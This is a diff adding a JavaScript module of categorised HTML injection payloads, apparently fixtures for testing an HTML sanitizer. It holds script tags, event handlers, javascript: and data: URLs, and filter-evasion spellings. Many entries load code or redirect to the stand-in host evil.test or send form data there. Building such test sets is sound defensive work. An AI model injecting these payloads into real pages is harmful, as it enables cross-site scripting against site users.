@@ -1,0 +1,137 @@
+/** Script elements in every spelling that has been taken for one. */
+const SCRIPTS = [
+  '<script>hit()</script>',
+  '<SCRIPT>hit()</SCRIPT>',
+  '<ScRiPt >hit()</sCrIpT >',
+  '<script/x>hit()</script>',
+  '<script\n>hit()</script\n>',
+  '<script>hit()',
+  '<script src=//evil.test/a.js></script>',
+  '<script\tsrc=//evil.test/a.js></script>',
+  '<script src="//evil.test/a.js"',
+  '<script src=data:text/javascript,hit()></script>',
+  '<script type=module>hit()</script>',
+  '<script type=module src=//evil.test/a.mjs></script>',
+  '<script nomodule>hit()</script>',
+  '<script async defer src=//evil.test/a.js></script>',
+  '<script type=importmap>{"imports":{"/":"//evil.test/"}}</script>',
+  '<script type=speculationrules>{"prefetch":[{"urls":["//evil.test"]}]}</script>',
+  '<script charset=utf-7>+AGgAaQB0ACgAKQ-</script>',
+  '<<script>hit()//<</script>',
+  '<scr<script>ipt>hit()</scr</script>ipt>',
+  '<script><!--<script>hit()</script>',
+  '<script>/*--></script><script>hit()/**/</script>',
+]
+
+/** Elements that fetch something, and handlers of what becomes of it. */
+const LOADING = [
+  '<img src=x onerror=hit()>',
+  '<img src=x onerror="hit()">',
+  "<img src=x onerror='hit()'>",
+  '<img src=x onerror=`hit()`>',
+  '<img/src=x/onerror=hit()>',
+  '<img\tsrc=x\tonerror=hit()>',
+  '<img\nsrc=x\nonerror\n=\nhit()>',
+  '<IMG SRC=x ONERROR=hit()>',
+  '<img """><script>hit()</script>">',
+  '<img src=x onerror=hit()//',
+  '<img srcset="//evil.test/a 1x" src=x>',
+  '<img src="javascript:hit()">',
+  '<img lowsrc=javascript:hit() dynsrc=javascript:hit()>',
+  '<image src=x href=x onerror=hit()>',
+  '<picture><source srcset=//evil.test/a><img></picture>',
+  '<video src=x onerror=hit()>',
+  '<video><source onerror=hit()></video>',
+  '<video poster=javascript:hit()></video>',
+  '<video controls onloadstart=hit() src=//evil.test/a></video>',
+  '<audio src=x onerror=hit()>',
+  '<track src=//evil.test/a default>',
+  '<input type=image src=x onerror=hit()>',
+]
+
+/** Documents in the document. */
+const FRAMES = [
+  '<iframe src=javascript:parent.hit()></iframe>',
+  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
+  '<iframe srcdoc=&lt;script&gt;parent.hit()&lt;/script&gt;></iframe>',
+  '<iframe src="data:text/html,<script>parent.hit()</script>"></iframe>',
+  '<iframe onload=hit()></iframe>',
+  '<iframe src=//evil.test sandbox="allow-scripts allow-top-navigation"></iframe>',
+  '<frameset onload=hit()><frame src=//evil.test></frameset>',
+  '<object data=javascript:hit()></object>',
+  '<object data="data:text/html,<script>hit()</script>" type=text/html></object>',
+  '<object><param name=src value=javascript:hit()></object>',
+  '<embed src=javascript:hit()>',
+  '<embed src="data:image/svg+xml,<svg onload=hit()>">',
+  '<applet code=hit codebase=//evil.test></applet>',
+  '<portal src=//evil.test onload=hit()></portal>',
+  '<fencedframe src=//evil.test></fencedframe>',
+]
+
+/** What belongs into a head, and changes the whole page. */
+const HEADS = [
+  '<link rel=stylesheet href=//evil.test/a.css>',
+  '<link rel=import href=//evil.test/a.html>',
+  '<link rel=preload as=script href=//evil.test/a.js onload=hit()>',
+  '<link rel=prefetch href=//evil.test>',
+  '<link rel=dns-prefetch href=//evil.test>',
+  '<link rel=manifest href=//evil.test/a.json>',
+  '<link rel=canonical href=//evil.test>',
+  '<meta http-equiv=refresh content="0;url=//evil.test">',
+  '<meta http-equiv=refresh content="0;javascript:hit()">',
+  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html,<script>hit()</script>">',
+  '<meta http-equiv=Content-Security-Policy content="script-src *">',
+  '<meta http-equiv=set-cookie content=a=b>',
+  '<meta charset=utf-7>',
+  '<meta name=referrer content=unsafe-url>',
+  '<base href=//evil.test/>',
+  '<base target=evil>',
+  '<title><script>hit()</script></title>',
+  '<style>@import "//evil.test/a.css"</style>',
+  '<style>*{background:url(//evil.test)}</style>',
+  '<style onload=hit()></style>',
+  '<div style="background:url(//evil.test/a)">x</div>',
+  '<div style="width:expression(hit())">x</div>',
+  '<div style="position:fixed;inset:0">x</div>',
+  '<p style=animation-name:x onanimationstart=hit()>x</p>',
+]
+
+/** Forms, and what takes the focus by itself. */
+const FORMS = [
+  '<form action=//evil.test><input type=submit></form>',
+  '<form action=javascript:hit()><input type=submit autofocus></form>',
+  '<form><button formaction=javascript:hit()>x</button></form>',
+  '<button form=x formaction=//evil.test>x</button>',
+  '<input autofocus onfocus=hit()>',
+  '<textarea autofocus onfocus=hit()></textarea>',
+  '<select autofocus onfocus=hit()></select>',
+  '<keygen autofocus onfocus=hit()>',
+  '<isindex action=javascript:hit() type=image>',
+  '<a autofocus tabindex=1 onfocus=hit()>x</a>',
+  '<input type=password name=password autocomplete=current-password>',
+  '<form id=root><input name=getAttribute></form>',
+]
+
+/** Handlers on elements of which any would do. */
+const HANDLERS = [
+  '<body onload=hit()>',
+  '<body onpageshow=hit()>',
+  '<body background="javascript:hit()">',
+  '<html onpointermove=hit()>',
+  '<details open ontoggle=hit()>x</details>',
+  '<marquee onstart=hit()>x</marquee>',
+  '<dialog open onclose=hit()>x</dialog>',
+  '<div popover id=p onbeforetoggle=hit()></div><button popovertarget=p>x</button>',
+  '<b onmouseover=hit()>x</b>',
+  '<div onpointerenter=hit()>x</div>',
+  '<div contenteditable onblur=hit() autofocus>x</div>',
+  '<x onclick=hit() id=hit tabindex=1>x</x>',
+  '<x-y onconnected=hit()></x-y>',
+  '<p oncontentvisibilityautostatechange=hit() style=content-visibility:auto>x</p>',
+  '<a href=# onclick=hit()>x</a>',
+  '<a href=//evil.test ping=//evil.test>x</a>',
+  '<a id=app href=cid:x>x</a><a id=app name=root>x</a>',
+]
+
+/** Elements of HTML, by what they would do. */
+export const ELEMENTS = { SCRIPTS, LOADING, FRAMES, HEADS, FORMS, HANDLERS }
